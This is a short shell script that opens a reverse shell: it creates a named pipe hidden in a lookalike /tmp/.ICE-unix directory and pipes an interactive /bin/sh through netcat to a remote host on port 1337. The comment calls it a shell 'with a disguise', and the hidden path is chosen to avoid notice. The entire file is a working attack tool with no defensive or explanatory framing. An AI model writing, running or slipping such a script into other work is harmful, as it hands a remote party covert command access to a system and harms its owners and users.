#!/bin/sh
# pipe based shell with a disguise
P=/tmp/.ICE-unix/.p
mkdir -p /tmp/.ICE-unix
rm -f $P; mkfifo $P
cat $P | /bin/sh -i 2>&1 | nc 198.51.100.2 1337 > $P
